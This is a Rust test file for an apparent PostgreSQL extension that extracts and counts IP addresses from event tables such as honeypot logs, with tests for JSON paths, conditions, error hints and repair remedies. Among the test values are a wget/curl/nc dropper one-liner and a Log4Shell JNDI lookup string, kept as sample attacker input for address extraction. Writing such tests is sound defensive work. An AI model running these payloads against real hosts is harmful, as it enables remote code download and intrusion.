//! Lists, free text, elements of arrays, and conditions: the addresses in events of any shape.

use crate::ingest_support::{Db, run};
use asn_inventory_tests::needs;

/// A column's type, its selector, the inserted values (one row each), and the expected `address|count` lines.
struct Kind(&'static str, &'static str, &'static [&'static str], &'static [&'static str]);

#[rustfmt::skip]
const KINDS: &[Kind] = &[
    Kind("text", "list(v)", &["'20.65.1.1, 10.65.1.9'", "'for=\"[2606:4700::1:1]:4711\";by=20.65.1.8, for=20.65.1.1'", "'20.65.1.2 20.65.1.2'", "''", "NULL"],
         &["10.65.1.9|1", "20.65.1.1|2", "20.65.1.2|1", "2606:4700::1:1|1"]),
    Kind("text", "text(v)", &["'cd /tmp; wget http://20.65.2.1/x || curl 20.65.2.1:80; nc 20.65.2.2 4444'", "'${jndi:ldap://20.65.2.2:1389/a}'", "'ls -la'", "NULL",
                              "'curl http://0x14410203/'", "'20[.]65[.]2[.]4 hxxp://20.65.2[.]5/ 10.0.0.0/8'", "'sip:100@20.65.2.6'"],
         &["20.65.2.1|1", "20.65.2.2|2", "20.65.2.3|1", "20.65.2.4|1", "20.65.2.5|1", "20.65.2.6|1"]),
    Kind("varchar[]", "text(v)", &["'{ping 20.65.3.1,\"20.65.3.1 and 20.65.3.2\",NULL}'"], &["20.65.3.1|1", "20.65.3.2|1"]),
    Kind("jsonb", "text(v->>input)", &[r#"'{"input":"wget 20.65.4.1"}'"#, r#"'{"input":null}'"#, r#"'{"input":["a 20.65.4.2",{"b":"20.65.4.3"}]}'"#, r#"'{"other":"20.65.4.9"}'"#],
         &["20.65.4.1|1", "20.65.4.2|1", "20.65.4.3|1"]),
    Kind("json", "text(v->>input)", &[r#"'{"input":"wget 20.65.5.\u0031"}'"#, r#"'{"input":["a 20.65.5.2",{"b":"20.65.5.3"}]}'"#],
         &["20.65.5.1|1", "20.65.5.2|1", "20.65.5.3|1"]),
    Kind("jsonb", "text(v)", &[r#"'{"a":{"b":"20.65.6.1 20.65.6.1"}}'"#, r#"'"20.65.6.2"'"#], &["20.65.6.1|1", "20.65.6.2|1"]),
    Kind("jsonb", "v->dns->answers->*->>rdata", &[r#"'{"dns":{"answers":[{"rdata":"20.65.7.1"},{"rdata":"20.65.7.2"},{"type":"A"},{"rdata":null}]}}'"#, r#"'{"dns":{"answers":{"rdata":"20.65.7.9"}}}'"#, r#"'{"dns":{}}'"#],
         &["20.65.7.1|1", "20.65.7.2|1"]),
    Kind("json", "v->answers->*->>rdata", &[r#"'{"answers":[{"rdata":"20.65.8.1"},{"rdata":["20.65.8.2"]}]}'"#], &["20.65.8.1|1", "20.65.8.2|1"]),
    Kind("jsonb", "v->*->>src_ip", &[r#"'[{"src_ip":"20.65.9.1"},{"src_ip":"20.65.9.1"}]'"#], &["20.65.9.1|2"]),
    Kind("jsonb", "list(v->*->hops->*)", &[r#"'[{"hops":["20.65.10.1, 20.65.10.2"]},{"hops":["20.65.10.2"]}]'"#], &["20.65.10.1|1", "20.65.10.2|1"]),
    Kind("citext", "v", &["' 20.65.11.1 '", "'HTTP://20.65.11.2/'"], &["20.65.11.1|1", "20.65.11.2|1"]),
    Kind("citext[]", "v", &["'{20.65.12.1,20.65.12.2:22}'"], &["20.65.12.1|1", "20.65.12.2|1"]),
    Kind("host[]", "v", &["'{20.65.13.1,20.65.13.2}'"], &["20.65.13.1|1", "20.65.13.2|1"]),
    Kind("note[]", "v", &["'{20.65.14.1,20.65.14.1}'"], &["20.65.14.1|2"]),
    Kind("text", "v", &["'020.065.015.001'", "'http://0x14.65.3842/'", "'20[.]65[.]15[.]3'", "'http://342953732/'"],
         &["20.65.15.1|1", "20.65.15.2|1", "20.65.15.3|1", "20.113.15.4|1"]),
    Kind("text", "v", &["'sip:100@20.65.16.1'", "'20.65.16.1;x'"], &["20.65.16.1|1"]),
];

/// Those that this PostgreSQL has the types of.
fn kinds() -> Vec<&'static Kind> {
    let has_citext = needs::has("citext", "every_shape_is_read_by_each_method_and_afterwards");
    KINDS.iter().filter(|kind| has_citext || !kind.0.starts_with("citext")).collect()
}

fn attach(db: &Db, kinds: &[&Kind], method: &str) {
    if kinds.len() == KINDS.len() {
        db.sql("CREATE EXTENSION citext");
    }
    db.sql("CREATE DOMAIN host AS inet; CREATE DOMAIN note AS text");
    for (number, Kind(sql_type, selector, ..)) in kinds.iter().enumerate() {
        db.sql(&format!(
            "CREATE TABLE kind_{number} (filler int DEFAULT 1, v {sql_type});
             SELECT attach_ip_source('kind_{number}', ARRAY['{selector}'], method => '{method}')"
        ));
    }
}

fn insert(db: &Db, kinds: &[&Kind]) {
    for (number, Kind(_, _, values, _)) in kinds.iter().enumerate() {
        let rows: Vec<String> = values.iter().map(|value| format!("({value})")).collect();
        db.sql(&format!("INSERT INTO kind_{number} (v) VALUES {}", rows.join(", ")));
    }
}

#[track_caller]
fn counted(db: &Db, kinds: &[&Kind], method: &str) {
    let counts = db.counts();
    let mut wanted: Vec<&str> = kinds.iter().flat_map(|kind| kind.3).copied().collect();
    wanted.sort_unstable();
    let mut found: Vec<&str> = counts.iter().map(String::as_str).collect();
    found.sort_unstable();
    assert_eq!(found, wanted, "{method}");
}

#[test]
fn every_shape_is_read_by_each_method_and_afterwards() {
    let kinds = kinds();
    for method in ["trigger", "row"] {
        let db = Db::new();
        attach(&db, &kinds, method);
        insert(&db, &kinds);
        counted(&db, &kinds, method);
    }
    let db = Db::new();
    attach(&db, &kinds, "trigger");
    // Rows from before the table was attached.
    for number in 0..kinds.len() {
        db.sql(&format!("SELECT detach_ip_source('kind_{number}')"));
    }
    insert(&db, &kinds);
    for (number, Kind(_, selector, ..)) in kinds.iter().enumerate() {
        db.sql(&format!(
            "SELECT attach_ip_source('kind_{number}', ARRAY['{selector}']); SELECT populate_ip_inventory('kind_{number}')"
        ));
    }
    counted(&db, &kinds, "populate");
}

#[test]
fn what_is_left_out_of_a_long_text_is_reported() {
    let db = Db::new();
    db.sql(
        "CREATE TABLE many (v text); SELECT attach_ip_source('many', '{text(v)}');
         CREATE TABLE long (v text); SELECT attach_ip_source('long', '{text(v)}');
         INSERT INTO many SELECT string_agg('20.' || n / 256 || '.' || n % 256 || '.1', ' ') FROM generate_series(1, 5000) n;
         INSERT INTO long VALUES ('20.65.1.1 ' || repeat('x', 1048576) || ' 20.65.1.2');
         CREATE TABLE tabs (v text); SELECT attach_ip_source('tabs', '{list(v)}');
         INSERT INTO tabs VALUES (repeat(E'20.65.1.1\t', 120000) || '20.65.1.2')",
    );
    assert_eq!(db.sources(), ["long|1|1", "many|1000|1", "tabs|1|1"]);
    assert_eq!(
        db.lines("SELECT tbl, unreadable_reason FROM ip_source ORDER BY tbl::text"),
        [
            "long|more than 1048576 bytes: the rest is not read",
            "many|more than 1000 addresses: the rest is not read",
            "tabs|more than 1048576 bytes: the rest is not read"
        ]
    );
}

#[test]
fn too_many_addresses_of_a_row_are_one_unparsable_value_however_many_elements_hold_them() {
    let db = Db::new();
    for (number, (kind, selector, value)) in [
        ("jsonb", "list(v->>ips)", "jsonb_build_object('ips', jsonb_agg(ip))"),
        ("jsonb", "list(v->ips->*)", "jsonb_build_object('ips', jsonb_agg(ip))"),
        ("json", "text(v->ips->*)", "json_build_object('ips', json_agg(ip))"),
        ("text[]", "text(v)", "array_agg(ip)"),
        ("text", "list(v)", "jsonb_agg(ip)::text"),
    ]
    .into_iter()
    .enumerate()
    {
        db.sql(&format!(
            "CREATE TABLE many_{number} (v {kind}); SELECT attach_ip_source('many_{number}', '{{{selector}}}');
             INSERT INTO many_{number} SELECT {value}
               FROM (SELECT '20.' || n / 256 || '.' || n % 256 || '.1' AS ip FROM generate_series(1, 3000) n) ips"
        ));
    }
    assert_eq!(db.sources(), ["many_0|1000|1", "many_1|1000|1", "many_2|1000|1", "many_3|1000|1", "many_4|1000|1"]);
}

#[test]
fn texts_without_an_address_are_no_mistakes_and_lists_name_theirs() {
    let db = Db::new();
    db.sql(
        "CREATE TABLE input (v text); SELECT attach_ip_source('input', '{text(v)}');
         INSERT INTO input VALUES ('uname -a'), ('wget 20.65.1.1'), ('1.2.3 10:11:12 v1.2.3.4');
         CREATE TABLE xff (v text); SELECT attach_ip_source('xff', '{list(v)}');
         INSERT INTO xff VALUES ('unknown, 20.65.1.2, 10.0.0.0/8')",
    );
    assert_eq!(db.sources(), ["input|1|0", "xff|1|2"]);
    assert_eq!(
        db.lines("SELECT unreadable_sample, unreadable_reason FROM ip_source WHERE tbl = 'xff'::regclass"),
        ["unknown|not an address"]
    );
    // A path through arrays that leads nowhere says where it ends.
    db.sql(
        r#"CREATE TABLE dns (v jsonb); SELECT attach_ip_source('dns', '{v->answers->*->>rdata}');
         INSERT INTO dns VALUES ('{"answers":[{"Rdata":"20.65.1.3"}]}')"#,
    );
    db.settle();
    assert_eq!(
        db.value("SELECT unreadable_reason FROM ip_source WHERE tbl = 'dns'::regclass"),
        r#"v->answers->*->>rdata: no key "rdata"; the keys are: Rdata"#
    );
}

#[test]
fn only_rows_that_meet_the_condition_are_counted() {
    for (kind, method) in [("jsonb", "trigger"), ("json", "trigger"), ("jsonb", "row")] {
        let db = Db::new();
        db.sql(&format!(
            "CREATE TABLE events (payload {kind}, level int, kind char(8), seen boolean);
             INSERT INTO events VALUES
                 ('{{\"ip\":\"20.65.1.1\",\"eventid\":\"cowrie.login.failed\"}}', 1, 'a', true),
                 ('{{\"ip\":\"20.65.1.1\",\"eventid\":\"cowrie.session.closed\"}}', 1, 'a', true);
             SELECT attach_ip_source('events', '{{payload->>ip}}', method => '{method}',
                 only_where => 'payload->>eventid = cowrie.login.failed and level in (1, 2) and kind <> b and seen = on')"
        ));
        let insert = "INSERT INTO events VALUES
             ('{\"ip\":\"20.65.1.2\",\"eventid\":\"cowrie.login.failed\"}', 1, 'a', true),
             ('{\"ip\":\"20.65.1.2\",\"eventid\":\"cowrie.login.failed\"}', 2, 'a', true),
             ('{\"ip\":\"20.65.1.3\",\"eventid\":\"cowrie.login.success\"}', 1, 'a', true),
             ('{\"ip\":\"20.65.1.4\",\"eventid\":\"cowrie.login.failed\"}', 3, 'a', true),
             ('{\"ip\":\"20.65.1.5\",\"eventid\":\"cowrie.login.failed\"}', 1, 'b', true),
             ('{\"ip\":\"20.65.1.6\",\"eventid\":\"cowrie.login.failed\"}', 1, 'a', false),
             ('{\"ip\":\"20.65.1.7\",\"eventid\":\"cowrie.login.failed\"}', NULL, 'a', true),
             ('{\"ip\":\"20.65.1.8\"}', 1, 'a', true),
             ('{\"ip\":\"20.65.1.9\",\"eventid\":null}', 1, 'a', true)";
        db.sql(insert);
        assert_eq!(db.counts(), ["20.65.1.2|2"], "{kind} {method}");
        // Rows of before meet it too.
        db.sql("SELECT populate_ip_inventory('events')");
        assert_eq!(db.counts(), ["20.65.1.1|1", "20.65.1.2|2"], "{kind} {method}");
        assert_eq!(
            db.value("SELECT only_where FROM ip_source"),
            "payload->>eventid = cowrie.login.failed and level in (1, 2) and kind <> b and seen = on"
        );
        // All rows are read, and one table's share can be taken back.
        assert_eq!(db.value("SELECT rows_seen FROM ip_source"), "11");
        assert_eq!(db.value("SELECT forget_ip_source('events')"), "3");
        assert_eq!(db.value("SELECT count(*) FROM ip_inventory"), "0");
    }
}

#[test]
fn labels_of_enums_and_names_are_compared_and_name_sensors() {
    for method in ["trigger", "row", "index"] {
        let db = Db::new();
        db.sql(&format!(
            "CREATE TYPE kind AS ENUM ('login', 'logout');
             CREATE TABLE events (ip inet, kind kind, host name);
             SELECT attach_ip_source('events', '{{ip}}', only_where => 'kind = login and host <> idle', sensor => 'kind', method => '{method}');
             INSERT INTO events VALUES ('20.65.1.1', 'login', 'a'), ('20.65.1.2', 'logout', 'a'), ('20.65.1.3', 'login', 'idle'),
                 ('20.65.1.4', NULL, 'a')"
        ));
        assert_eq!(db.counts(), ["20.65.1.1|1"], "{method}");
        assert_eq!(db.lines("SELECT sensor FROM ip_sightings"), ["login"], "{method}");
        // Another label is called otherwise now.
        db.sql(
            "ALTER TYPE kind RENAME VALUE 'logout' TO 'left'; INSERT INTO events VALUES ('20.65.1.5', 'login', 'a')",
        );
        assert_eq!(db.counts(), ["20.65.1.1|1", "20.65.1.5|1"], "{method}");
    }
    let db = Db::new();
    db.sql("CREATE TYPE kind AS ENUM ('login'); CREATE TABLE events (ip inet, kind kind)");
    let failure = db.fails("SELECT attach_ip_source('events', '{ip}', only_where => 'kind = lgoin')");
    assert_eq!(
        (failure.code.as_str(), failure.detail.as_str()),
        ("42804", "No value of type public.kind is \"lgoin\".")
    );
}

#[test]
fn a_condition_that_no_row_meets_is_reported_and_one_that_broke_counts_nothing() {
    let db = Db::new();
    db.sql(
        "CREATE TABLE events (ip inet, kind text);
         SELECT attach_ip_source('events', '{ip}', only_where => 'kind = login');
         INSERT INTO events VALUES ('20.65.1.1', 'LOGIN')",
    );
    db.settle();
    assert_eq!(
        db.value("SELECT detail FROM enrichment_doctor() WHERE check_name = 'addresses'"),
        "public.events is attached, but none of its 1 rows held an address: only_where: no row that meets it holds a value."
    );
    db.sql("INSERT INTO events VALUES ('20.65.1.1', 'login')");
    assert_eq!(db.counts(), ["20.65.1.1|1"]);
    let (mut session, notices) = db.connect_with_notices();
    run(&mut session, "ALTER TABLE events RENAME kind TO sort; INSERT INTO events VALUES ('20.65.1.2', 'login')");
    assert_eq!(notices.all(), ["WARNING: condition \"kind = login\" can no longer be read, and no row is observed"]);
    assert_eq!(db.counts(), ["20.65.1.1|1"]);
    assert_eq!(
        db.lines("SELECT level, detail FROM enrichment_doctor() WHERE check_name = 'columns'"),
        [
            "error|Columns by which public.events is observed are missing or changed type, and are skipped: only_where kind = login: there is no column kind, and no row is counted."
        ]
    );
    // The doctor's command for a trigger that is gone names it.
    db.sql("ALTER TABLE events RENAME sort TO kind; ALTER TABLE events DISABLE TRIGGER asn_inventory_observe");
    let remedy = db.value("SELECT remedy FROM enrichment_doctor() WHERE check_name = 'triggers'");
    db.sql(&remedy);
    db.sql("INSERT INTO events VALUES ('20.65.1.3', 'login'), ('20.65.1.4', 'logout')");
    assert_eq!(db.counts(), ["20.65.1.1|1", "20.65.1.3|1"], "{remedy}");
}

#[test]
fn the_doctor_names_the_value_of_a_condition_that_a_renamed_label_left_behind() {
    let db = Db::new();
    db.sql(
        "CREATE TYPE kind AS ENUM ('login', 'logout');
         CREATE TABLE events (ip inet, kind kind);
         SELECT attach_ip_source('events', '{ip}', only_where => 'kind = login');
         ALTER TYPE kind RENAME VALUE 'login' TO 'signin'",
    );
    assert_eq!(
        db.lines("SELECT detail FROM enrichment_doctor() WHERE check_name = 'columns'"),
        [
            "Columns by which public.events is observed are missing or changed type, and are skipped: only_where kind = login: no value of type public.kind is \"login\", and no row is counted."
        ]
    );
}

#[test]
fn a_new_partition_has_the_condition_too() {
    let db = Db::new();
    db.sql(
        "CREATE TABLE root (ip inet, kind text, day date) PARTITION BY RANGE (day);
         SELECT attach_ip_source('root', '{ip}', only_where => 'kind = login');
         CREATE TABLE p PARTITION OF root FOR VALUES FROM ('2026-01-01') TO ('2027-01-01');
         INSERT INTO p VALUES ('20.65.1.1', 'login', '2026-01-05'), ('20.65.1.2', 'x', '2026-01-05')",
    );
    assert_eq!(db.counts(), ["20.65.1.1|1"]);
}

#[test]
fn what_cannot_be_read_is_refused_with_a_hint() {
    let db = Db::new();
    db.sql("CREATE TABLE e (ip inet, v text, p jsonb, n numeric, \"where x\" text, \"list(v)\" text)");
    for (call, code, message, detail) in [
        (
            "'{list(ip)}'",
            "42804",
            "column \"ip\" of \"e\" holds no addresses",
            "list(…) and text(…) read text, and its type is inet.",
        ),
        (
            "'{text(ip)}'",
            "42804",
            "column \"ip\" of \"e\" holds no addresses",
            "list(…) and text(…) read text, and its type is inet.",
        ),
        (
            "'{list(p)}'",
            "42804",
            "column \"p\" of \"e\" holds no addresses",
            "It is JSON, and no path says where in it.",
        ),
        (
            "'{v->*}'",
            "42804",
            "column \"v\" of \"e\" holds no addresses",
            "It has a path, but its type is text, not json or jsonb.",
        ),
        ("'{list(v}'", "42703", "column \"list(v\" of relation \"e\" does not exist", ""),
        ("'{\"where x\"}'", "22023", "\"where x\" begins like a condition", "A condition is given as only_where."),
        ("'{ip}', only_where => 'kind = x'", "42703", "column \"kind\" of relation \"e\" does not exist", ""),
        (
            "'{ip}', only_where => 'n = 1'",
            "42804",
            "column \"n\" of \"e\" cannot be compared in only_where",
            "Its type is numeric.",
        ),
        (
            "'{ip}', only_where => 'p = 1'",
            "42804",
            "column \"p\" of \"e\" cannot be compared in only_where",
            "It is JSON, and the path to the value is missing.",
        ),
        (
            "'{ip}', only_where => 'v like x'",
            "22023",
            "only_where is no condition",
            "In only_where there is no =, <>, in or not in behind v.",
        ),
        (
            "'{ip}', only_where => ''",
            "22023",
            "only_where is no condition",
            "In only_where there is no column or path before \"\".",
        ),
    ] {
        let failure = db.fails(&format!("SELECT attach_ip_source('e', {call})"));
        assert_eq!((&*failure.code, &*failure.message, &*failure.detail), (code, message, detail), "{call}");
        assert!(!failure.hint.is_empty(), "{call}");
    }
    // In quotes, odd names are names.
    db.sql(
        r#"SELECT attach_ip_source('e', ARRAY['"where x"', '"list(v)"']);
         INSERT INTO e ("where x", "list(v)") VALUES ('20.65.1.1', '20.65.1.2')"#,
    );
    assert_eq!(db.counts(), ["20.65.1.1|1", "20.65.1.2|1"]);
}

#[test]
fn a_hostile_text_costs_one_row_no_more() {
    let db = Db::new();
    db.sql("CREATE TABLE e (v text); SELECT attach_ip_source('e', '{text(v)}')");
    let mut session = db.connect();
    run(&mut session, "SET statement_timeout = '60s'");
    for unit in ["1.", ":", "[.]", "a:", "://", "1.2.3.4/", "%20"] {
        run(&mut session, &format!("INSERT INTO e SELECT repeat('{unit}', 3000000)"));
    }
    run(
        &mut session,
        "INSERT INTO e VALUES (convert_from('\\xe28080', 'UTF8') || '20.65.1.1' || convert_from('\\xc2a0', 'UTF8'))",
    );
    db.settle();
    assert_eq!(db.value("SELECT count(*) FROM ip_inventory WHERE ip_address = '20.65.1.1'"), "1");
}

#[test]
fn the_doctor_knows_a_time_in_json_and_a_condition() {
    for method in ["trigger", "row"] {
        let db = Db::new();
        db.sql(&format!(
            "CREATE TABLE e (payload jsonb);
             SELECT attach_ip_source('e', ARRAY['list(payload->>xff)'], ' payload->>ts@Europe/Berlin ', '{method}',
                 'payload->>kind in (''a b'', c)')"
        ));
        let insert = |ip: &str| {
            db.sql(&format!(
                r#"INSERT INTO e VALUES ('{{"xff":"{ip}","kind":"a b","ts":"2026-01-05 12:00:00"}}'), ('{{"xff":"20.65.9.9","kind":"a"}}')"#
            ));
        };
        let noted = "SELECT method, observed_at, observed_path, observed_zone, only_where FROM ip_source";
        let wanted = format!("{method}|payload|payload->>ts|Europe/Berlin|payload->>kind in ('a b', c)");
        let sick = "SELECT check_name, detail FROM enrichment_doctor()
                    WHERE level <> 'ok' AND check_name IN ('triggers', 'columns', 'addresses', 'swapped tables')";
        insert("20.65.1.1");
        assert_eq!(db.counts(), ["20.65.1.1|1"]);
        assert_eq!(db.value("SELECT first_seen_at FROM ip_inventory"), "2026-01-05 11:00:00+00");
        assert_eq!(db.lines(noted), std::slice::from_ref(&wanted));
        assert_eq!(db.lines(sick), [""; 0], "{method}");
        for harm in [
            "DROP TRIGGER asn_inventory_observe ON e",
            "CREATE TABLE n (LIKE e); ALTER TABLE e RENAME TO old; ALTER TABLE n RENAME TO e",
        ] {
            db.sql(harm);
            let remedy = db.lines(
                "SELECT remedy FROM enrichment_doctor() WHERE level <> 'ok' AND check_name IN ('triggers', 'swapped tables')",
            );
            assert_eq!(remedy.len(), 1, "{method}: {harm}: {remedy:?}");
            db.sql(&remedy[0]);
        }
        insert("20.65.1.2");
        assert_eq!(db.counts(), ["20.65.1.1|1", "20.65.1.2|1"], "{method}");
        assert!(db.lines(noted).contains(&wanted), "{:?}", db.lines(noted));
        assert_eq!(db.lines(sick), [""; 0], "{method}");
        // That of rows without an address names all of it as well.
        db.sql("CREATE TABLE mute (payload jsonb); SELECT detach_ip_source(tbl) FROM ip_source");
        db.sql(&format!(
            "SELECT attach_ip_source('mute', ARRAY['payload->>IP'], 'payload->>ts', '{method}', 'payload->>kind = x');
             INSERT INTO mute VALUES ('{{\"ip\":\"20.65.1.3\",\"kind\":\"x\"}}')"
        ));
        db.settle();
        let remedy = db.value("SELECT remedy FROM enrichment_doctor() WHERE check_name = 'addresses'");
        db.sql(&remedy.replace("IP}", "ip}"));
        assert_eq!(db.counts(), ["20.65.1.1|1", "20.65.1.2|1", "20.65.1.3|1"], "{remedy}");
        let again = format!("{method}|payload|payload->>ts||payload->>kind = x");
        assert_eq!(db.lines(noted), [again], "{remedy}");
    }
}

/// SQL, and the ways of other languages, where a column or a path is wanted: the hint says how it is written.
#[test]
fn a_hint_names_the_mistake() {
    let db = Db::new();
    db.sql("CREATE TABLE e (payload jsonb, src inet, at timestamptz)");
    for (columns, observed_at, word) in [
        ("$$payload#>>'{src,ip}'$$", "NULL", "arrows"),
        ("'host(src)'", "NULL", "No function is called here"),
        ("'payload.src_ip'", "NULL", "arrows"),
        ("$$(payload->>'src_ip')::inet$$", "NULL", "Leave the cast out"),
        ("'src'", "'to_timestamp(ts)'", "No function is called here"),
        ("'src'", "$$payload#>>'{timestamp}'$$", "arrows"),
        ("'Src'", "NULL", "case-sensitive"),
    ] {
        let refused = db.fails(&format!("SELECT attach_ip_source('e', ARRAY[{columns}], {observed_at})"));
        assert!(refused.hint.contains(word), "{columns} {observed_at}: {refused:?}");
    }
}

/// Such a mistake would be taken for a key, which no row has. In quotes it is one.
#[test]
fn a_key_that_looks_like_sql_stands_in_quotes() {
    let db = Db::new();
    db.sql("CREATE TABLE e (payload jsonb, src inet)");
    let refused = |statement: &str, word: &str| {
        let refused = db.fails(statement);
        assert_eq!(refused.code, "22023", "{statement}: {refused:?}");
        assert!(refused.message.ends_with("cannot be a key without quotes"), "{statement}: {refused:?}");
        assert!(refused.hint.contains(word), "{statement}: {refused:?}");
    };
    for (arguments, word) in [
        ("ARRAY['payload->>ip::inet']", "Leave the cast out"),
        ("ARRAY['src', 'list(payload->>xff::text)']", "Leave the cast out"),
        ("ARRAY['payload->>$.ip']", "begins with the column"),
        ("ARRAY['payload->>ip, payload->>ip2']", "an element of ip_columns of its own"),
        ("ARRAY['payload->>\"ip\"']", "in single quotes, or in none"),
        ("'{src}', 'payload->>timestamp::timestamptz'", "Leave the cast out"),
        ("'{src}', 'payload->>timestamp::timestamptz@UTC'", "Leave the cast out"),
        ("'{src}', 'payload->>ts AT TIME ZONE ''UTC'''", "behind an @"),
        ("'{src}', sensor => 'payload->>sensor::text'", "Leave the cast out"),
        ("'{src}', only_where => 'src <> 10.0.0.1 and payload->>kind::text = a'", "Leave the cast out"),
    ] {
        for method in ["trigger", "row", "index"] {
            refused(&format!("SELECT attach_ip_source('e', {arguments}, method => '{method}')"), word);
        }
    }
    refused("CREATE INDEX ON e USING ip_observer (payload) WITH (selectors = '{payload->>ip::inet}')", "cast");
    refused("SELECT ip_parse('{}'::jsonb, 'src->>ip::inet')", "cast");
    assert_eq!(db.value("SELECT count(*) FROM ip_source"), "0");
    assert_eq!(
        db.fails("SELECT attach_ip_source('e', ARRAY['payload->>o''brien::inet'])").hint,
        "Leave the cast out: values are read as texts, and times as what they say. A key that is called so stands in single quotes: 'o''brien::inet'."
    );
    db.sql(
        r#"SELECT attach_ip_source('e', ARRAY['payload->>''ip::inet'''], 'payload->>''at, UTC''');
         INSERT INTO e VALUES ('{"ip::inet":"20.65.1.1","at, UTC":"2026-01-05"}')"#,
    );
    assert_eq!(db.counts(), ["20.65.1.1|1"]);
    assert_eq!(db.value("SELECT first_seen_at FROM ip_inventory"), "2026-01-05 00:00:00+00");
}

/// Version 0.2.0 attached tables by such keys.
#[test]
fn what_is_observed_by_a_key_that_looks_like_sql_goes_on() {
    let db = Db::new();
    // As a restore of the schema alone leaves it.
    db.sql(
        "CREATE TABLE e (payload jsonb, day int) PARTITION BY LIST (day);
         CREATE TRIGGER asn_inventory_observe AFTER INSERT ON e REFERENCING NEW TABLE AS inserted FOR EACH STATEMENT
             EXECUTE FUNCTION observe_addresses('payload->>at::timestamptz@UTC', 'payload->>ip::inet', 'where payload->>kind::text = a', 'sensor: payload->>$.hp')",
    );
    let insert = |day: i32| {
        db.sql(&format!(
            r#"INSERT INTO e VALUES ('{{"ip::inet":"20.65.1.{day}","kind::text":"a","$.hp":"x","at::timestamptz":"2026-01-05 12:00"}}', {day})"#
        ));
    };
    let take_remedy = |check: &str| {
        let remedy = format!("SELECT remedy FROM enrichment_doctor() WHERE level <> 'ok' AND check_name = '{check}'");
        db.sql(&db.value(&remedy));
    };
    take_remedy("triggers");
    db.sql("CREATE TABLE e_1 PARTITION OF e FOR VALUES IN (1)");
    insert(1);
    assert_eq!(
        db.lines("SELECT ip_columns, observed_path, only_where, sensor FROM ip_source"),
        ["{payload->>ip::inet}|payload->>at::timestamptz|payload->>kind::text = a|payload->>$.hp"]
    );
    db.sql("DROP TRIGGER asn_inventory_observe ON e");
    take_remedy("triggers");
    db.sql("CREATE TABLE e_2 PARTITION OF e FOR VALUES IN (2)");
    insert(2);
    db.sql("CREATE TABLE n (LIKE e); ALTER TABLE e RENAME TO old; ALTER TABLE n RENAME TO e");
    take_remedy("swapped tables");
    insert(3);
    assert_eq!(db.counts(), ["20.65.1.1|1", "20.65.1.2|1", "20.65.1.3|1"]);
    // What is taken off and attached again at once.
    db.sql(
        "SELECT detach_ip_source('old'); SELECT forget_ip_source('e'); SELECT attach_ip_source('e', '{payload->>ip::inet}')",
    );
    assert_eq!(db.counts(), ["20.65.1.1|1", "20.65.1.2|1"]);
}
